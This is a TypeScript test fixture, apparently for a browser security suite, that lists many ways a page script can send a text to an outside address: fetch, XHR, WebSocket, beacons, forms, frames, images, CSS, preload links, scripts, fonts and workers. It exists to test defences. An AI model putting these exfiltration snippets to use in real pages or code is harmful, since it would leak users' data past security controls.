/**
 * Every way in which a script can send a text, as the body of an async function. In it `t` is the
 * text, `q` the same for an address, `u` an address that takes anything, `wait` a promise of some
 * milliseconds. Names are what SECURITY.md calls them.
 */
export const ways: Readonly<Record<string, string>> = {
  'fetch: string': `await fetch(u, { method: 'POST', body: t })`,
  'fetch: JSON in JSON': `await fetch(u, { method: 'POST', body: JSON.stringify({ a: JSON.stringify({ t }) }) })`,
  'fetch: base64': `await fetch(u, { method: 'POST', body: btoa(String.fromCharCode(...new TextEncoder().encode(t))) })`,
  'fetch: Request': `await fetch(new Request(u, { method: 'POST', body: t }))`,
  'fetch: Request and init': `await fetch(new Request(u), { method: 'POST', body: t })`,
  'fetch: FormData': `const f = new FormData(); f.append('a', t); await fetch(u, { method: 'POST', body: f })`,
  'fetch: FormData with a file': `const f = new FormData(); f.append('a', new File([t], 'n.txt')); await fetch(u, { method: 'POST', body: f })`,
  'fetch: Blob': `await fetch(u, { method: 'POST', body: new Blob([t]) })`,
  'fetch: Blob of 200 kB': `await fetch(u, { method: 'POST', body: new Blob([t, ' '.repeat(200_000)]) })`,
  'fetch: bytes': `await fetch(u, { method: 'POST', body: new TextEncoder().encode(t) })`,
  'fetch: buffer': `await fetch(u, { method: 'POST', body: new TextEncoder().encode(t).buffer })`,
  'fetch: URLSearchParams': `await fetch(u, { method: 'POST', body: new URLSearchParams({ a: t }) })`,
  'fetch: stream': `await fetch(u, { method: 'POST', duplex: 'half', body: new Blob([t]).stream() })`,
  'fetch: keepalive': `await fetch(u, { method: 'POST', body: t, keepalive: true })`,
  'fetch: address': `await fetch(u + q)`,
  'XHR: string': `const x = new XMLHttpRequest(); x.open('POST', u); x.send(t); await new Promise((go) => x.onloadend = go)`,
  'XHR: FormData': `const x = new XMLHttpRequest(); const f = new FormData(); f.append('a', t); x.open('POST', u); x.send(f); await new Promise((go) => x.onloadend = go)`,
  'XHR: Blob': `const x = new XMLHttpRequest(); x.open('POST', u); x.send(new Blob([t])); await new Promise((go) => x.onloadend = go)`,
  'XHR: bytes': `const x = new XMLHttpRequest(); x.open('POST', u); x.send(new TextEncoder().encode(t)); await new Promise((go) => x.onloadend = go)`,
  'XHR: document': `const x = new XMLHttpRequest(); const d = document.implementation.createHTMLDocument(t); x.open('POST', u); x.send(d); await new Promise((go) => x.onloadend = go)`,
  'XHR: address': `const x = new XMLHttpRequest(); x.open('GET', u + q); x.send(); await new Promise((go) => x.onloadend = go)`,
  'XHR: synchronous, string': `const x = new XMLHttpRequest(); x.open('POST', u, false); x.send(t)`,
  'XHR: synchronous, Blob': `const x = new XMLHttpRequest(); x.open('POST', u, false); x.send(new Blob([t]))`,
  'WebSocket: text': `const s = new WebSocket(u.replace('http', 'ws')); await new Promise((go) => s.onopen = go); s.send(JSON.stringify([t])); await wait(150); s.close()`,
  'WebSocket: bytes': `const s = new WebSocket(u.replace('http', 'ws')); await new Promise((go) => s.onopen = go); s.send(new TextEncoder().encode(JSON.stringify([t]))); await wait(150); s.close()`,
  'WebSocket: Blob': `const s = new WebSocket(u.replace('http', 'ws')); await new Promise((go) => s.onopen = go); s.send(new Blob([JSON.stringify([t])])); await wait(150); s.close()`,
  'WebSocket: address': `const s = new WebSocket(u.replace('http', 'ws') + q); await new Promise((go) => s.onopen = s.onclose = go); s.close()`,
  'beacon: string': `navigator.sendBeacon(u, t)`,
  'beacon: FormData': `const f = new FormData(); f.append('a', t); navigator.sendBeacon(u, f)`,
  'beacon: Blob': `navigator.sendBeacon(u, new Blob([t]))`,
  'beacon: address': `navigator.sendBeacon(u + q)`,
  'EventSource: address': `const s = new EventSource(u + q); await new Promise((go) => s.onopen = s.onerror = go); s.close()`,
  'form: post': `${form('post')} f.submit(); await wait(150)`,
  'form: post, requested': `${form('post')} f.requestSubmit(); await wait(150)`,
  'form: get': `${form('get')} f.submit(); await wait(150)`,
  'form: beside a file': `${form('post')} f.enctype = 'multipart/form-data'; const b = document.createElement('input'); b.type = 'file'; b.name = 'b'; const d = new DataTransfer(); d.items.add(new File(['x'], 'x')); b.files = d.files; f.append(b); f.submit(); await wait(150)`,
  'frame: src': `const f = document.createElement('iframe'); f.src = u + q; document.body.append(f); await wait(150)`,
  'frame: location': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = u + q; await wait(150)`,
  'popup: address': `const p = window.open(u + q); await wait(2000); p?.close()`,
  'link: new tab': `const a = document.createElement('a'); a.href = u + q; a.target = 'tab' + Math.random(); document.body.append(a); a.click(); await wait(250)`,
  'link: ping': `const n = 'n' + Math.random(); const g = document.createElement('iframe'); g.name = n; document.body.append(g); const a = document.createElement('a'); a.href = u; a.target = n; a.ping = u + q; document.body.append(a); a.click(); await wait(150)`,
  'image: src': `new Image().src = u + q; await wait(100)`,
  'image: attribute': `document.createElement('img').setAttribute('src', u + q); await wait(100)`,
  'image: srcset': `new Image().srcset = u + q; await wait(100)`,
  'image: HTML': `document.createElement('p').innerHTML = '<img src="' + u + q + '">'; await wait(100)`,
  'style: background': `const d = document.createElement('div'); d.style.cssText = 'width: 9px; height: 9px'; document.body.append(d); d.style.backgroundImage = 'url("' + u + q + '")'; await wait(300)`,
  'style: sheet': `const s = document.createElement('style'); s.textContent = '@import "' + u + q + '"'; document.body.append(s); await wait(150)`,
  'link: stylesheet': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = u + q; document.body.append(l); await wait(150)`,
  'link: prefetch': `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = u + q; document.body.append(l); await wait(150)`,
  'link: preload': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.href = u + q; document.body.append(l); await wait(150)`,
  'script: src': `const s = document.createElement('script'); s.src = u + q; document.body.append(s); await wait(150)`,
  'script: import': `await import(u + q).catch(() => 0)`,
  'media: src': `document.createElement('video').src = u + q; await wait(150)`,
  'object: data': `const o = document.createElement('object'); o.data = u + q; document.body.append(o); await wait(150)`,
  'font: address': `new FontFace('x', 'url("' + u + q + '")').load().catch(() => 0); await wait(150)`,
  'worker: address': `const w = new Worker(u + q); await wait(150); w.terminate()`,
  'worker: fetch': `const w = new Worker(new URL('/worker.js', u)); w.postMessage([u, t]); await Promise.race([new Promise((go) => w.onmessage = go), wait(1500)]); w.terminate()`,
  'worker: fetch, from a Blob': `const w = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data: [u, t] }) => fetch(u, { method: 'POST', body: t }).finally(() => postMessage('sent'))"]))); w.postMessage([u, t]); await Promise.race([new Promise((go) => w.onmessage = go), wait(1500)]); w.terminate()`,
  'shared worker: fetch': `const w = new SharedWorker(new URL('/worker.js', u)); w.port.postMessage([u, t]); await Promise.race([new Promise((go) => w.port.onmessage = go), wait(1500)])`,
};

/** Into a frame of its own, so that the page stays. */
function form(method: string): string {
  return `const n = 'n' + Math.random(); const g = document.createElement('iframe'); g.name = n; document.body.append(g);
    const f = document.createElement('form'); f.method = '${method}'; f.action = u; f.target = n;
    const i = document.createElement('input'); i.name = 'a'; i.value = t; f.append(i); document.body.append(f);`;
}

/** Ways that take the page itself elsewhere; on a page of their own each. */
export const leaving: Readonly<Record<string, string>> = {
  'page: location': `location.href = u + q`,
  'page: link': `const a = document.createElement('a'); a.href = u + q; document.body.append(a); a.click()`,
  'page: form, get': `const f = document.createElement('form'); f.action = u; const i = document.createElement('input'); i.name = 'a'; i.value = t; f.append(i); document.body.append(f); f.submit()`,
  'page: refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + u + q; document.head.append(m)`,
};

/** How a script of the page gets hold of each window, as the body of an async function. */
export const realms: Readonly<Record<string, string>> = {
  page: `return window`,
  'blank frame': `return frame((f) => 0)`,
  'srcdoc frame': `return loaded((f) => f.srcdoc = '<body>')`,
  'blob frame': `return loaded((f) => f.src = URL.createObjectURL(new Blob(['<body>'], { type: 'text/html; charset=utf-8' })))`,
  'sandboxed frame': `return loaded((f) => { f.sandbox = 'allow-scripts allow-same-origin allow-forms allow-popups'; f.srcdoc = '<body>' })`,
  'frame on its way': `return frame((f) => f.src = '/never')`,
  'blank popup': `return window.open('')`,
  'popup on its way': `return window.open('/never')`,
};
